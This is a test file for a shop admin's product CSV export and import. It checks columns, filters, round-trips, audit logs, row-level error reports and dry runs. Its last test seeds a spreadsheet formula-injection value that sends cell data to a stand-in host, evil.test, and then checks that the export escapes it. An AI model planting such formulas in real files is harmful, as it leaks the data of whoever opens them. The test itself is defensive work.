import { parse, stringify } from "csv/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AuditEntry } from "../../server/modules/audit/audit.service";
import type { AdminProduct, AdminProductList, ImportReport } from "../../server/modules/catalog/catalog.admin";
import { CSV_COLUMNS } from "../../server/modules/catalog/catalog.csv";
import { type TestBrowser, createAccount, signedIn } from "../support/auth-browser";
import { insertCatalog } from "../support/catalog-fixture";
import { type TestShop, createTestShop } from "../support/test-shop";

let shop: TestShop;
let admin: TestBrowser;
const actor = { id: "csv-test", email: "csv-test@example.com", requestId: null };

beforeAll(async () => {
  shop = await createTestShop();
  await insertCatalog(shop.db, { Clothing: ["Shirts", "Knitwear"], Home: ["Kitchen"] }, []);
  const make = (body: Record<string, unknown>) =>
    shop.services.catalogAdmin.createProduct(actor, { categorySlug: "clothing", price: 10, image: [], ...body } as never);
  await make({
    name: "Fisherman Jumper",
    subCategorySlug: "clothing-knitwear",
    description: '<p>Hand-knitted in Shetland, "oiled" wool.</p>\n<p>Second paragraph, with commas, and\nline breaks.</p>',
    brand: "Ísland & Co",
    sku: "FJ-1",
    price: 149.5,
    discount: 15,
    shippingCost: 6,
    image: ["/uploads/products/jumper.webp", "/uploads/products/jumper-cream.webp", "/uploads/products/jumper-navy.webp"],
    imageAlt: ["A cable-knit jumper", "", "The navy jumper, folded"],
    colorImages: { Cream: ["/uploads/products/jumper-cream.webp"], Navy: ["/uploads/products/jumper-navy.webp", "/uploads/products/jumper.webp"] },
    specifications: [
      { name: "Material", value: "100% wool" },
      { name: "Care", value: "Hand wash, cold" },
      { name: "Origin", value: "Scotland" },
      { name: "Weight", value: "750 g" },
    ],
    colors: [
      { name: "Cream", hex: "#f4ecd8" },
      { name: "Navy", hex: "#1f2a44" },
    ],
    sizes: ["S", "M", "L"],
    variants: [
      { color: "Cream", size: "S", additionalPrice: 0, stock: 3, sku: "FJ-C-S" },
      { color: "Cream", size: "M", additionalPrice: 0, stock: 0 },
      { color: "Navy", size: "M", additionalPrice: 10.25, stock: 7 },
    ],
  });
  await make({
    name: "Linen Shirt",
    subCategorySlug: "clothing-shirts",
    price: 45,
    sizes: ["M", "L"],
    variants: [
      { size: "M", additionalPrice: 0, stock: 2 },
      { size: "L", additionalPrice: 0, stock: 9 },
    ],
    image: ["https://images.example.com/linen.jpg"],
  });
  await make({ name: "Wool Beanie", price: 19.99, colors: [{ name: "Rust", hex: null }], variants: [{ color: "Rust", additionalPrice: 0, stock: 12 }] });
  await make({
    name: "Enamel Mug",
    categorySlug: "home",
    subCategorySlug: "home-kitchen",
    price: 12,
    stock: 40,
    specifications: [{ name: "Volume", value: "350 ml" }],
  });
  await make({ name: "Teapot (draft)", categorySlug: "home", price: 30, status: "draft", stock: 5 });
  await make({ name: "Old Kettle", categorySlug: "home", price: 25, status: "archived", stock: 0 });
  await createAccount(shop, { email: "admin@example.com", password: "admin-password-1", role: "admin" });
  admin = await signedIn(shop, "admin@example.com", "admin-password-1");
}, 60_000);
afterAll(() => shop?.close());

async function exportCsv(query = ""): Promise<string> {
  const res = await admin.get(`/api/admin/products/export.csv${query}`);
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="products-\d{4}-\d{2}-\d{2}\.csv"$/);
  // As sent, byte-order mark included (Response.text() would drop it).
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(await res.arrayBuffer());
}

async function importCsv(csv: string, dryRun = false) {
  const res = await admin.request(`/api/admin/products/import${dryRun ? "?dryRun=true" : ""}`, {
    method: "POST",
    headers: { "content-type": "text/csv" },
    body: csv,
  });
  const body = (await res.json()) as { data: ImportReport; error?: { code: string; message: string } };
  return { status: res.status, report: body.data, error: body.error };
}

async function counts() {
  const n = async (table: "products" | "product_variants" | "audit_log" | "product_slug_redirects") =>
    Number(
      (
        await shop.db.kysely
          .selectFrom(table)
          .select((eb) => eb.fn.countAll<number>().as("n"))
          .executeTakeFirstOrThrow()
      ).n,
    );
  return { products: await n("products"), variants: await n("product_variants"), audit: await n("audit_log"), redirects: await n("product_slug_redirects") };
}

const rowsOf = (csv: string) => parse(csv, { bom: true }) as string[][];
const csvOf = (rows: string[][]) => stringify(rows);
/** The line (1-based) a row of `rows` starts on once written as CSV: cells with line breaks push the rows after them down. */
const lineOfRow = (rows: string[][], index: number) => 1 + rows.slice(0, index).reduce((n, row) => n + stringify([row]).split("\n").length - 1, 0);
const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);

const productBySlug = async (slug: string) => {
  const list = (await (await admin.get(`/api/admin/products?q=${slug}&pageSize=200`)).json()) as AdminProductList;
  const row = list.data.find((p) => p.slug === slug)!;
  return (await (await admin.get(`/api/admin/products/${row.id}`)).json()) as { data: AdminProduct };
};

describe("CSV export and import", () => {
  it("exports a row per variant, picture or specification with Shopify-like columns", async () => {
    const csv = await exportCsv();
    expect(
      csv.startsWith(
        "\ufeffHandle,Title,Body (HTML),Vendor,SKU,Category,Sub-category,Status,Price,Discount,Shipping Cost,Tax class,Inventory Qty,Option1 Name,Option1 Value",
      ),
    ).toBe(true);
    const rows = rowsOf(csv);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const jumper = rows.filter((r) => r[0] === "fisherman-jumper");
    // Four specifications: four rows; three variants and three pictures share them.
    expect(jumper).toHaveLength(4);
    expect(
      jumper.map((r) => [r[col("Option1 Value")], r[col("Option2 Value")], r[col("Variant Inventory Qty")], r[col("Image Src")], r[col("Image Colors")]]),
    ).toEqual([
      ["Cream", "S", "3", "/uploads/products/jumper.webp", "Navy"],
      ["Cream", "M", "0", "/uploads/products/jumper-cream.webp", "Cream"],
      ["Navy", "M", "7", "/uploads/products/jumper-navy.webp", "Navy"],
      ["", "", "", "", ""],
    ]);
    expect(jumper[0]!.slice(0, 14)).toEqual([
      "fisherman-jumper",
      "Fisherman Jumper",
      expect.stringContaining("Shetland"),
      "Ísland & Co",
      "FJ-1",
      "clothing",
      "clothing-knitwear",
      "active",
      "149.50",
      "15",
      "6.00",
      "",
      "",
      "Color",
    ]);
    expect(jumper[2]![col("Variant Additional Price")]).toBe("10.25");
    expect(jumper[1]![col("Title")]).toBe("");
    expect(rows.find((r) => r[0] === "enamel-mug")![col("Inventory Qty")]).toBe("40");
  });

  it("exports what the list's search and filters select, every page of it, and refuses bad filters", async () => {
    const handlesOf = (csv: string) =>
      [
        ...new Set(
          rowsOf(csv)
            .slice(1)
            .map((r) => r[0]),
        ),
      ].sort();
    const listed = async (query: string) => {
      const list = (await (await admin.get(`/api/admin/products?pageSize=200&${query}`)).json()) as AdminProductList;
      return list.data.map((p) => p.slug).sort();
    };
    const cases: Array<[string, string[]]> = [
      ["status=draft", ["teapot-draft"]],
      ["category=home&status=active", ["enamel-mug"]],
      ["category=clothing&subCategory=clothing-knitwear", ["fisherman-jumper"]],
      ["stock=out", ["old-kettle"]],
      ["q=beanie", ["wool-beanie"]],
      ["q=kettle&status=archived", ["old-kettle"]],
      ["q=FJ-C-S", ["fisherman-jumper"]],
      ["category=garden", []],
    ];
    for (const [query, handles] of cases) {
      const csv = await exportCsv(`?${query}`);
      expect(rowsOf(csv)[0], query).toEqual([...CSV_COLUMNS]);
      expect(handlesOf(csv), query).toEqual(handles);
      // The list shows the same products under the same parameters.
      expect(await listed(query), query).toEqual(handles);
    }
    // Every row of a product comes with it: the jumper's four rows, its three variants.
    const jumper = rowsOf(await exportCsv("?subCategory=clothing-knitwear")).slice(1);
    expect(jumper).toHaveLength(4);
    expect(jumper.filter((r) => r[col("Variant Inventory Qty")] !== "").map((r) => r[col("Variant Inventory Qty")])).toEqual(["3", "0", "7"]);
    // No filter: every product; paging and sorting parameters do not narrow it.
    expect(handlesOf(await exportCsv("?page=2&pageSize=1&sort=name"))).toHaveLength(6);
    const bad = await admin.get("/api/admin/products/export.csv?status=gone&stock=plenty");
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: { code: string; fields: Record<string, string> } }).error).toMatchObject({
      code: "invalid_input",
      fields: { status: "The status is active, draft or archived", stock: "The stock level is in, low or out" },
    });
  });

  it("imports its own export unchanged, and exporting again gives the same bytes", async () => {
    const first = await exportCsv();
    const before = await counts();
    const { status, report } = await importCsv(first);
    expect(status).toBe(200);
    expect(report).toMatchObject({ dryRun: false, created: 0, updated: 0, unchanged: 6, errors: [] });
    expect(await counts()).toEqual(before);
    expect(await exportCsv()).toBe(first);
  });

  it("a product stored with its colour pictures in another order than its colours comes back unchanged", async () => {
    // As the demo seed writes them: the keys not in the variants' colour order, a list not in the gallery's.
    await shop.db.kysely
      .updateTable("products")
      .set({
        color_images: JSON.stringify({
          Navy: ["/uploads/products/jumper.webp", "/uploads/products/jumper-navy.webp"],
          Cream: ["/uploads/products/jumper-cream.webp"],
        }),
      })
      .where("slug", "=", "fisherman-jumper")
      .execute();
    const csv = await exportCsv();
    const { report } = await importCsv(csv, true);
    expect(report).toMatchObject({ created: 0, updated: 0, unchanged: 6, errors: [] });
    expect((await importCsv(csv)).report).toMatchObject({ updated: 0, unchanged: 6 });
  });

  it("rebuilds deleted products from the export exactly (export → import → identical export)", async () => {
    const first = await exportCsv();
    const list = (await (await admin.get("/api/admin/products?pageSize=200")).json()) as AdminProductList;
    expect((await admin.post("/api/admin/products/bulk", { ids: list.data.map((p) => p.id), action: "delete" })).status).toBe(200);
    expect((await counts()).products).toBe(0);
    const { status, report } = await importCsv(first);
    expect(status, JSON.stringify(report)).toBe(200);
    expect(report).toMatchObject({ created: 6, updated: 0, unchanged: 0, errors: [] });
    expect(report.products.map((p) => [p.handle, p.action])).toContainEqual(["fisherman-jumper", "create"]);
    expect(await exportCsv()).toBe(first);
    const { data: jumper } = await productBySlug("fisherman-jumper");
    expect(jumper).toMatchObject({
      price: 149.5,
      discount: 15,
      stock: 10,
      finalPrice: 127.07,
      imageAlt: ["A cable-knit jumper", "", "The navy jumper, folded"],
    });
    // Shown on the storefront at once.
    expect((await shop.request("/api/products/fisherman-jumper")).status).toBe(200);
  });

  it("updates products by handle (version, listed price, an audit entry each and an import summary)", async () => {
    const rows = rowsOf(await exportCsv());
    const mug = rows.find((r) => r[0] === "enamel-mug")!;
    mug[col("Price")] = "14.00";
    mug[col("Inventory Qty")] = "55";
    const before = (await productBySlug("enamel-mug")).data;
    const { status, report } = await importCsv(csvOf(rows));
    expect(status).toBe(200);
    expect(report).toMatchObject({ created: 0, updated: 1, unchanged: 5, errors: [] });
    const after = (await productBySlug("enamel-mug")).data;
    expect(after).toMatchObject({ price: 14, finalPrice: 14, stock: 55, version: before.version + 1 });
    const entries = ((await (await admin.get(`/api/admin/audit-log?entity=product&entityId=${after.id}`)).json()) as { data: AuditEntry[] }).data;
    expect(entries[0]).toMatchObject({
      action: "product.update",
      actor: { email: "admin@example.com" },
      changes: { price: { before: 12, after: 14 }, stock: { before: 40, after: 55 } },
    });
    const summary = ((await (await admin.get("/api/admin/audit-log?entity=catalog&entityId=csv-import")).json()) as { data: AuditEntry[] }).data;
    expect(summary[0]).toMatchObject({ action: "product.import", changes: { created: { after: 0 }, updated: { after: 1 }, unchanged: { after: 5 } } });
  });

  it("reports every bad row with its line and reason, and applies nothing", async () => {
    const rows = rowsOf(await exportCsv());
    const header = rows[0]!;
    const line = (handle: string, n = 0) => lineOfRow(rows, rows.findIndex((r) => r[0] === handle) + n);
    const at = (handle: string, n = 0) => rows[rows.findIndex((r) => r[0] === handle) + n]!;
    at("enamel-mug")[col("Price")] = "-3";
    at("linen-shirt")[col("Category")] = "garden";
    at("linen-shirt", 1)[col("Variant Inventory Qty")] = "lots";
    at("wool-beanie")[col("Option1 Hex")] = "rust";
    at("fisherman-jumper", 2)[col("Title")] = "Another Title";
    const newRow = header.map(() => "");
    newRow[col("Handle")] = "Bad Handle!";
    newRow[col("Title")] = "x".repeat(10_000);
    newRow[col("Category")] = "home";
    newRow[col("Price")] = "5";
    rows.push(newRow);
    const before = await counts();
    const { status, report, error } = await importCsv(csvOf(rows));
    expect(status).toBe(400);
    expect(error).toMatchObject({ code: "invalid_input", message: expect.stringMatching(/rows have problems; nothing was imported/) });
    expect(report.errors).toEqual(
      [
        { line: line("enamel-mug"), message: "Price: The price cannot be negative" },
        { line: line("linen-shirt"), message: "Category: There is no category “garden”" },
        { line: line("linen-shirt", 1), message: "Variant Inventory Qty: Stock must be a whole number" },
        { line: line("wool-beanie"), message: "Option1 Hex: Use a colour like #1a2b3c" },
        { line: line("fisherman-jumper", 2), message: expect.stringMatching(/^Title: differs from the product's first row \(line \d+\)/) },
        { line: lineOfRow(rows, rows.length - 1), message: "Title: The name can be at most 200 characters" },
        { line: lineOfRow(rows, rows.length - 1), message: "Handle: Use lower-case letters, digits and single dashes (like linen-shirt)" },
      ].sort((a, b) => a.line - b.line),
    );
    expect(await counts()).toEqual(before);
    expect((await productBySlug("enamel-mug")).data.price).toBe(14);
  });

  it("counts the lines of a cell that spans several, and refuses what is not CSV", async () => {
    const rows = rowsOf(await exportCsv());
    const jumperIndex = rows.findIndex((r) => r[0] === "fisherman-jumper");
    // The jumper's description spans 3 lines: every line after it is 2 further down than its row number.
    const after = rows[jumperIndex + 4]!;
    after[col("Price")] = "abc";
    const { status, report } = await importCsv(csvOf(rows));
    expect(status).toBe(400);
    expect(lineOfRow(rows, jumperIndex + 4)).toBe(jumperIndex + 4 + 1 + 2);
    expect(report.errors).toEqual([{ line: jumperIndex + 4 + 1 + 2, message: "Price: The price must be a number" }]);
    const broken = await importCsv('Handle,Title\nx,"unterminated\n');
    expect(broken.status).toBe(400);
    expect(broken.report.errors[0]).toMatchObject({ line: expect.any(Number), message: expect.stringMatching(/^The file is not valid CSV/) });
    const noHandle = await importCsv("Title,Price\nMug,5\n");
    expect(noHandle.report.errors).toEqual([{ line: 1, message: expect.stringMatching(/no Handle column/) }]);
  });

  it("a dry run reports what would be created and updated, and every bad row, writing nothing", async () => {
    const rows = rowsOf(await exportCsv());
    rows.find((r) => r[0] === "wool-beanie")![col("Discount")] = "30";
    const shirt = rows.find((r) => r[0] === "linen-shirt")!;
    shirt[col("Title")] = "Linen Shirt, washed";
    shirt[col("Variant Inventory Qty")] = "5";
    const fresh = rows[0]!.map(() => "");
    fresh[col("Handle")] = "stoneware-bowl";
    fresh[col("Title")] = "Stoneware Bowl";
    fresh[col("Category")] = "home";
    fresh[col("Price")] = "18";
    fresh[col("Inventory Qty")] = "6";
    rows.push(fresh);
    const before = await counts();
    const { status, report } = await importCsv(csvOf(rows), true);
    expect(status).toBe(200);
    expect(report).toMatchObject({ dryRun: true, created: 1, updated: 2, unchanged: 4, errors: [] });
    // Each update names the fields it changes, before and after, as its audit entry would.
    expect(report.products.filter((p) => p.action !== "unchanged")).toEqual([
      {
        line: lineOfRow(rows, rows.indexOf(shirt)),
        handle: "linen-shirt",
        name: "Linen Shirt, washed",
        action: "update",
        changes: { name: { before: "Linen Shirt", after: "Linen Shirt, washed" }, variants: { before: "2 variants", after: "2 variants: M stock 2 → 5" } },
      },
      { line: expect.any(Number), handle: "wool-beanie", name: "Wool Beanie", action: "update", changes: { discount: { before: 0, after: 30 } } },
      { line: lineOfRow(rows, rows.length - 1), handle: "stoneware-bowl", name: "Stoneware Bowl", action: "create" },
    ]);
    expect(await counts()).toEqual(before);
    expect((await productBySlug("wool-beanie")).data.discount).toBe(0);
    expect((await productBySlug("linen-shirt")).data).toMatchObject({ name: "Linen Shirt", stock: 11 });
    // A dry run with bad rows lists them (200: the report is the answer) and writes nothing either.
    rows.find((r) => r[0] === "stoneware-bowl")![col("Price")] = "-1";
    const bad = await importCsv(csvOf(rows), true);
    expect(bad.status).toBe(200);
    expect(bad.report.errors).toEqual([{ line: lineOfRow(rows, rows.length - 1), message: "Price: The price cannot be negative" }]);
    expect(await counts()).toEqual(before);
  });
});

describe("cells a spreadsheet would run", () => {
  it("exports them behind a quote, and importing the export gives back every value as it was", async () => {
    const formula = '=HYPERLINK("http://evil.test/?"&A1,"Open")';
    await shop.services.catalogAdmin.createProduct(actor, {
      name: formula,
      categorySlug: "home",
      price: 9,
      stock: 3,
      brand: "@vendor",
      description: "<p>-10 °C and colder</p>",
      image: [],
      specifications: [
        { name: "+Plus", value: "'=already quoted" },
        { name: "Range", value: "-5" },
      ],
    } as never);
    const first = await exportCsv();
    const row = rowsOf(first).find((r) => r[col("Title")]?.includes("HYPERLINK"))!;
    const handle = row[col("Handle")]!;
    const rows = rowsOf(first).filter((r) => r[0] === handle);
    expect(row[col("Title")]).toBe(`'${formula}`);
    expect(row[col("Vendor")]).toBe("'@vendor");
    expect(rows.map((r) => [r[col("Specification Name")], r[col("Specification Value")]])).toEqual([
      ["'+Plus", "''=already quoted"],
      ["Range", "-5"],
    ]);

    const { status, report } = await importCsv(first);
    expect(status).toBe(200);
    expect(report.products.find((p) => p.handle === handle)).toMatchObject({ action: "unchanged", name: formula });
    expect(await exportCsv()).toBe(first);
    const { data: product } = await productBySlug(handle);
    expect(product).toMatchObject({
      name: formula,
      brand: "@vendor",
      specifications: [
        { name: "+Plus", value: "'=already quoted" },
        { name: "Range", value: "-5" },
      ],
    });
  });
});
